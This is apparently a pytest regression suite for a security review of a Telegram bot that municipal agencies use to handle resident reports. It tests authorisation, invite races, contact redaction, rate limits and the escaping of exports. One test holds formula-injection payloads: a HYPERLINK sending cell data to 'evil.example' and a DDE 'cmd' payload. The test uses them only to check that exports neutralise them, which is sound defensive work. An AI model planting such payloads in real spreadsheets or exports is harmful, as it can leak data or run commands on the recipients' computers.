"""Issue 14's findings, one test each (numbered as in the issue): each failed on b51ed50, the code
before one policy decided every read and every act."""
from __future__ import annotations

import asyncio
import csv
import io
from datetime import timedelta

from openpyxl import load_workbook
from sqlalchemy import select

from backoffice.keyboards import OfficerAction, OfficerCb
from core.officers import create_invite, find_officer, redeem_invite
from db.models import AccessRefusal, AuditEvent, Officer, Outbox, RelayQuestion, Report
from tests.access_world import DUTY_CHAT, OTHER_GROUP, files_seen, make_world, seen_by
from tests.flows import english, full_report
from tests.harness import BACKOFFICE_TOKEN, Resident

DAY = timedelta(days=1)


async def _stop(world) -> None:
    await world.h.app.stop()
    await world.h.emu.stop()


# 1 ------------------------------------------------------------------------------------------------
async def test_1_a_forged_press_shows_nothing_of_the_report(tmp_path):
    world = await make_world(tmp_path, new=1, held=2)
    h, ani = world.h, world.actors["other"]
    try:
        for report in (await world.take("new"), await world.take("held"), await world.take("held")):
            for button in (OfficerAction.ACK, OfficerAction.ON_THE_WAY, OfficerAction.DETAILS, OfficerAction.CLOSE,
                           OfficerAction.MERGE):
                world.press(ani, OfficerCb(action=button, report=report.id).pack())
                await h.settle()
            # Before: the refusal re-rendered the alert, description and all, into Ani's chat.
            assert report.description not in seen_by(h, ani.chat_id)
            assert report.ticket not in seen_by(h, ani.chat_id)
        assert set(ani.user.callback_answers) == {"That report is not available to you."}
        # The same answer for an id that names no report: a refusal teaches nothing.
        world.press(ani, OfficerCb(action=OfficerAction.DETAILS, report=999_999).pack())
        await h.settle()
        assert ani.user.callback_answers[-1] == "That report is not available to you."
    finally:
        await _stop(world)


# 2 ------------------------------------------------------------------------------------------------
async def test_2_summaries_and_their_files_hold_only_the_agencys_reports(tmp_path):
    world = await make_world(tmp_path, held=2)
    h = world.h
    try:
        satpol_report = await world.take("held")
        h.clock.advance(days=1)
        kasatpol, dewi = world.actors["supervisor"], world.actors["other_boss"]
        for boss in (kasatpol, dewi):
            world.type(boss, "/ringkasan minggu")
            await h.settle()
        # Dinsos's supervisor: no Satpol PP report in the text, the workbook or the CSV...
        assert satpol_report.description not in seen_by(h, dewi.chat_id)
        assert satpol_report.ticket not in seen_by(h, dewi.chat_id)
        dinsos_files = files_seen(h, dewi.chat_id)
        assert ("Tiket" in dinsos_files or "Ticket" in dinsos_files) and satpol_report.ticket not in dinsos_files
        # ...but counts of the pengemis reports Dinsos is informed of (the region config says so).
        summary = next(m.text for m in dewi.user.messages if m.text and m.text.startswith("📊"))
        assert "For your information" in summary and "Beggars: 2" in summary
        # Satpol PP's supervisor gets them in full.
        assert satpol_report.description in files_seen(h, kasatpol.chat_id)
    finally:
        await _stop(world)


# 3 ------------------------------------------------------------------------------------------------
async def test_3_an_invite_is_redeemed_once_however_many_open_it_at_once(db, region):
    from core.clock import ManualClock

    now = ManualClock().now()
    async with db() as session:
        code, _ = await create_invite(session, region=region, now=now, agency="dinsos", role="supervisor", areas=[])

    async def open_link(user_id: int):
        async with db() as session:
            return await redeem_invite(session, now=now, code=code, telegram_id=user_id, chat_id=user_id,
                                       name=f"User {user_id}", language="id")

    results = await asyncio.gather(*(open_link(8000 + i) for i in range(6)))
    assert sum(r is not None for r in results) == 1
    async with db() as session:
        assert len((await session.execute(select(Officer))).scalars().all()) == 1


# 4 ------------------------------------------------------------------------------------------------
async def test_4_invites_and_officers_commands_only_in_private_chats(tmp_path):
    world = await make_world(tmp_path, held=1)
    h = world.h
    try:
        report = await world.take("held")
        async with h.app.sessionmaker() as session:
            code, _ = await create_invite(session, region=h.region, now=h.clock.now(), agency="satpolpp",
                                          role="officer", areas=[])
        # An invite opened inside a group registers nobody (the group would get every alert).
        newcomer = Resident(h, h.emu.add_user(8100, first_name="Baru").with_bot(BACKOFFICE_TOKEN))
        h.emu.groups[OTHER_GROUP].members.add(8100)
        world.type(type("A", (), {"user": newcomer.user, "chat_id": OTHER_GROUP})(), f"/start {code}")
        await h.settle()
        assert await h.scalar(select(Officer).where(Officer.telegram_id == 8100)) is None
        # The same link in a private chat works.
        await newcomer.say(f"/start {code}")
        assert (await h.scalar(select(Officer).where(Officer.telegram_id == 8100))).chat_id == 8100
        # An officer's commands typed in a group (even the duty group) show nothing there.
        kasatpol = world.actors["supervisor"]
        for chat in (OTHER_GROUP, DUTY_CHAT):
            h.emu.groups[chat].members.add(kasatpol.user.id)
            for command in ("/ringkasan minggu", f"/lapor {report.ticket}", "/antrian", "/terlambat"):
                world.type(type("A", (), {"user": kasatpol.user, "chat_id": chat})(), command)
                await h.settle()
            group_saw = seen_by(h, chat)
            assert report.ticket not in group_saw and report.description not in group_saw
            assert not any(m.document for m in h.emu.groups[chat].messages)
    finally:
        await _stop(world)


# 5 ------------------------------------------------------------------------------------------------
async def test_5_answers_follow_the_report_not_the_officer_who_asked(h):
    from core.officers import disable_officer
    from tests.test_backoffice_dispatch import _acknowledged_report

    budi, r, report = await _acknowledged_report(h)
    dinsos = await h.officer(9004, "Ani", agency="dinsos")
    alert = next(m for m in budi.user.messages if m.text and report.ticket in m.text)
    await budi.tap(next(b for row in alert.buttons for b in row if "Ask" in b))
    await budi.say("Are they still there?")
    question = next(m for m in r.user.messages if m.text and "still there" in m.text)
    # Budi hands the report over to Dinsos before the resident answers.
    await budi.tap_data(OfficerCb(action=OfficerAction.HANDOVER_TO, report=report.id, arg="dinsos").pack())
    await budi.say("Needs rehabilitation")
    assert (await h.scalar(select(Report))).agency == "dinsos"
    await r.tap(question.buttons[0][0])
    await r.say("Yes, under the bridge CLUE-5")
    assert not any("CLUE-5" in t for t in budi.texts())  # before: the old agency's officer got it
    # Ani acknowledges it, asks, and is disabled before the answer: nobody gets that one.
    alert = next(m for m in dinsos.user.messages if m.text and report.ticket in m.text and m.buttons)
    dinsos.user.click(alert.buttons[0][0], message=alert)
    await h.settle()
    await dinsos.tap_data(OfficerCb(action=OfficerAction.ASK, report=report.id).pack())
    await dinsos.say("How many?")
    second = next(m for m in reversed(r.user.messages) if m.text and "How many?" in m.text)
    async with h.app.sessionmaker() as session:
        ani = await find_officer(session, 9004)
        await disable_officer(session, now=h.clock.now(), officer_id=ani.id)
    await r.tap(second.buttons[0][0])
    await r.say("Three CLUE-6")
    assert not any("CLUE-6" in t for t in dinsos.texts())
    answers = await h.rows(select(RelayQuestion).order_by(RelayQuestion.id))
    assert [a.answer for a in answers] == ["Yes, under the bridge CLUE-5", "Three CLUE-6"]  # kept in the file


# 6 ------------------------------------------------------------------------------------------------
# In tests/test_retention_scan.py: after the purge, no planted text, phone or chat id anywhere.


# 7 ------------------------------------------------------------------------------------------------
async def test_7_exports_never_hand_a_spreadsheet_a_formula(h, tmp_path):
    from core.audit_export import export_csv
    from core.exports import csv_text, workbook
    from core.summary import Period, window

    officer = await h.officer(9001, "Budi", areas=["Alpha"])
    r = h.resident()
    await english(r)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    await full_report(r, description=formula)
    report = await h.scalar(select(Report))
    await officer.tap_data(OfficerCb(action=OfficerAction.NOTE, report=report.id).pack())
    await officer.say("+cmd|' /C calc'!A0")
    win = window(h.region, Period.WEEKLY, h.clock.now().astimezone(h.region.tz).date())
    async with h.app.sessionmaker() as session:
        text = await csv_text(session, h.region, win.start, win.end)
        book = load_workbook(io.BytesIO(await workbook(session, h.region, win.start, win.end)))
        audit = io.StringIO()
        await export_csv(session, audit)
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + formula in cells and formula not in cells
    sheet_cells = [c for row in book["Laporan"].iter_rows() for c in row if c.value == formula]
    assert sheet_cells and all(c.data_type == "s" and c.quotePrefix for c in sheet_cells)
    history = [c for row in book["Riwayat"].iter_rows() for c in row if isinstance(c.value, str)
               and c.value.startswith("+cmd")]
    assert history and all(c.data_type == "s" and c.quotePrefix for c in history)
    audit_cells = [c for row in csv.reader(io.StringIO(audit.getvalue())) for c in row]
    assert "'+cmd|' /C calc'!A0" in audit_cells


# 8 ------------------------------------------------------------------------------------------------
async def test_8_only_the_holder_or_a_supervisor_merges_marks_duplicate_or_rejects(tmp_path):
    world = await make_world(tmp_path, new=1, held=3)
    h = world.h
    try:
        sri = world.actors["same"]
        targets = [await world.take("held") for _ in range(3)]
        other = await world.take("new")
        world.press(sri, OfficerCb(action=OfficerAction.MERGE, report=targets[0].id).pack())
        world.press(sri, OfficerCb(action=OfficerAction.DUPLICATE, report=targets[1].id).pack())
        world.press(sri, OfficerCb(action=OfficerAction.REJECT, report=targets[2].id).pack())
        world.press(sri, OfficerCb(action=OfficerAction.REJECT, report=other.id).pack())
        await h.settle()
        # Even the conversations that would end in the change are not started.
        world.type(sri, other.ticket)
        await h.settle()
        states = [(await h.scalar(select(Report).where(Report.id == t.id))).state for t in [*targets, other]]
        assert states == ["diterima", "diterima", "diterima", "baru"]
        assert sri.user.callback_answers[-4:] == [
            *(f"{t.ticket} is held by Budi; only they or a supervisor can do that." for t in targets),
            f"Only the officer holding {other.ticket} or a supervisor can do that; acknowledge it first."]
    finally:
        await _stop(world)


# 9 ------------------------------------------------------------------------------------------------
async def test_9_alerts_queued_before_a_hand_over_are_not_delivered_to_the_old_agency(h):
    from core.report_actions import hand_over

    budi = await h.officer(9001, "Budi", areas=["Alpha"])
    ani = await h.officer(9004, "Ani", agency="dinsos")
    await h.officer(9005, "Kasatpol", role="supervisor")
    r = h.resident()
    await english(r)
    # Telegram holds Budi's chat back for a while: his alerts wait in the outbox...
    h.emu.inject_fault("sendMessage", status=429, retry_after=30, count=1, chat_id=9001)
    await full_report(r, description="Two children CLUE-9")
    report = await h.scalar(select(Report))
    waiting = await h.count(Outbox, Outbox.chat_id == 9001, Outbox.status == "pending")
    assert waiting >= 1 and not any("CLUE-9" in t for t in budi.texts())
    # ...while his supervisor hands the report over to Dinsos.
    async with h.app.sessionmaker() as session:
        boss = await find_officer(session, 9005)
        await hand_over(session, clock=h.clock, region=h.region, officer=boss, report_id=report.id,
                        to_agency="dinsos", reason="rehabilitation")
    h.clock.advance(seconds=60)
    await h.settle()
    assert not any("CLUE-9" in t for t in budi.texts())  # before: the old agency got the alert
    assert any("CLUE-9" in t for t in ani.texts())
    assert await h.count(Outbox, Outbox.chat_id == 9001, Outbox.status == "pending") == 0


# 10 -----------------------------------------------------------------------------------------------
async def test_10_the_relay_passes_no_contact_either_way(h):
    from tests.test_backoffice_dispatch import _acknowledged_report

    budi, r, report = await _acknowledged_report(h)
    await budi.tap_data(OfficerCb(action=OfficerAction.ASK, report=report.id).pack())
    told = await budi.say("Call me on 0812-3456-7890 or t.me/budi_satpol, where exactly?")
    assert "phone number" in told.text and "link" in told.text  # the officer is told what went
    question = next(m for m in r.user.messages if m.text and "where exactly" in m.text)
    assert "3456" not in question.text and "t.me" not in question.text and "[…]" in question.text
    await r.tap(question.buttons[0][0])
    told = await r.say("Near the mosque, my number is +62 813 1111 2222, I am @siti_warga")
    assert "phone number" in told.text and "Telegram username" in told.text
    answer = budi.last
    assert "Near the mosque" in answer.text
    assert "1111" not in answer.text and "@siti_warga" not in answer.text
    stored = await h.scalar(select(RelayQuestion))
    assert "1111" not in stored.answer and "3456" not in stored.question


# 11 -----------------------------------------------------------------------------------------------
async def test_11_a_strangers_flood_is_one_audit_row_an_hour_with_a_count(h):
    stranger = Resident(h, h.emu.add_user(6601, first_name="Orang").with_bot(BACKOFFICE_TOKEN))
    for i in range(30):
        stranger.user.send_text(f"/antrian {i}")
    await h.settle()
    assert await h.count(AuditEvent, AuditEvent.action == "unregistered_access") == 1
    counter = await h.scalar(select(AccessRefusal))
    assert counter.count == 30 and counter.telegram_id == 6601
    # Told politely a few times, then not again this hour: a flood spends none of the send
    # budget the officers' alerts need.
    assert len([m for m in stranger.user.messages if m.from_bot]) == 3
    h.clock.advance(hours=1)
    await stranger.say("/antrian")
    assert await h.count(AuditEvent, AuditEvent.action == "unregistered_access") == 2
    assert "belum terdaftar" in stranger.last.text  # still answered, in the region's language


async def test_11_additions_are_capped_and_a_long_history_pages(h):
    r = h.resident()
    await english(r)
    await full_report(r)
    report = await h.scalar(select(Report))
    limit = h.region.limits.info_additions_per_report
    for i in range(limit):
        await r.say("/status")
        await r.tap(report.ticket)
        await r.tap("➕ Add information")
        await r.say(f"Addition {i}: " + "they moved again, now near the bus stop. " * 20)
    await r.say("/status")
    detail = await r.tap(report.ticket)
    # Fits one message, the latest first, with a way back to the earlier ones.
    assert len(detail.text) <= 4096 and f"Addition {limit - 1}" in detail.text and "Addition 0" not in detail.text
    earlier = await r.tap("◀️ Earlier")
    assert "Addition 0" in earlier.text and "Addition 1" in earlier.text and "Addition 2" not in earlier.text
    refused = await r.tap("➕ Add information")
    assert refused is not None
    assert any("as much added information" in t for t in r.user.callback_answers)
    assert await h.count(AuditEvent, AuditEvent.action == "info_added") == limit


async def test_11_one_rating_per_report_and_pledges_per_day(h):
    from tests.test_backoffice_dispatch import _acknowledged_report

    budi, r, report = await _acknowledged_report(h)
    await budi.tap_data(OfficerCb(action=OfficerAction.CLOSE, report=report.id).pack())
    await budi.tap("Not found at the location")
    await budi.tap("Skip")
    stars = next(m for m in r.user.messages if m.buttons and "⭐" in m.buttons[0][0])
    for n in (5, 5, 4, 3, 2, 1, 5, 4):  # a forged client pressing again and again
        r.user.click_data(f"rate:{report.id}:{n}", message=stars)
        await h.settle()
    rated = await h.scalar(select(Report))
    # 5, then two changes of mind (4, 3); after that the rating stands.
    assert await h.count(AuditEvent, AuditEvent.action == "rated") == 3 and rated.rating == 3
    for i in range(h.region.limits.pledges_per_day):
        await r.say("/sumbangan")
        await r.tap("Goods")
        await r.say(f"Rice, {i + 1} sacks")
        await r.press("📱 Share my phone number")
        await r.tap("Send offer")
    refused = await r.say("/sumbangan")  # asked before anything is typed, not after
    from db.models import DonationPledge

    assert await h.count(DonationPledge) == h.region.limits.pledges_per_day
    assert "as many donation offers today" in refused.text
    h.clock.advance(days=1)
    await r.say("/sumbangan")
    assert "as many donation offers" not in r.last.text  # tomorrow they may again
